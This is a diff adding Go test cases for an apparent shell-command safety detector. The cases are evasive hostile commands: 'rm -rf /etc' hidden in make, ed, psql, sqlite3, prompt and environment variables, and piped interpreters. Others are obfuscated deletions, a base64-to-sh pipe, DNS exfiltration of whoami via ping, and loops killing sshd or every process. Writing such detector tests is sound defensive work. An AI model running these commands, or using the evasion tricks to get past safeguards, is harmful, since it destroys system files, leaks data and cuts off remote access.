@@ -124,6 +124,32 @@ func TestHiddenCommands(t *testing.T) {
 	})
 }
 
+func TestWhatIsToldToPrograms(t *testing.T) {
+	checkHits(t, []example{
+		{`make -f - <<< 'all:; rm -rf /etc'`, "shell.delete"},
+		{"printf 'all:\n\t@rm -rf /etc\n' > Makefile && make", "shell.delete"},
+		{`ed x <<< '!rm -rf /etc'`, "shell.delete"},
+		{`psql <<< '\! rm -rf /etc'`, "shell.delete"},
+		{`sqlite3 x.db <<< '.shell rm -rf /etc'`, "shell.delete"},
+		{`sqlite3 x.db '.shell rm -rf /etc'`, "shell.delete"},
+		{`PS1='$(rm -rf /etc)'`, "shell.delete"},
+		{`BASH_ENV=<(echo rm -rf /etc) bash -c :`, "shell.delete"},
+		{`PROMPT_COMMAND='rm -rf /etc'`, "shell.delete"},
+		{`awk 'BEGIN{print "rm -rf /etc"}' | sh`, "shell.delete"},
+		{`python3 -c 'print("rm -rf /etc")' | sh`, "shell.delete"},
+		{`python3 -c 'import base64; print(base64.b64decode(x))' | sh`, "shell.obfuscated"},
+		{`r$@m -rf /etc`, "shell.delete"},
+		{`r${u}m -rf /etc`, "shell.delete"},
+		{`$0 -c 'rm -rf /etc'`, "shell.delete"},
+		{`ls / | xargs rm -rf`, "shell.delete"},
+		{`ls -d /* | xargs -I{} rm -rf {}`, "shell.delete"},
+		{`ping -c 1 $(whoami).x.example.com`, "shell.exfiltration"},
+		{`for p in $(ps -eo pid,comm | awk '/sshd/ {print $1}'); do kill "$p"; done`, "shell.kill"},
+		{`for p in $(ps -eo pid | awk '{print $1}'); do kill -9 $p; done`, "shell.kill"},
+		{`ps aux | grep sshd | grep -v grep | awk '{print $2}' | xargs kill -9`, "shell.kill"},
+	})
+}
+
 func TestFunctionsAreRunAgainWhereTheyMayDoOtherwise(t *testing.T) {
 	checkHits(t, []example{
 		{`f() { rm -rf "$d"; }; d=/tmp/x; f; d=/etc; f`, "shell.delete"},
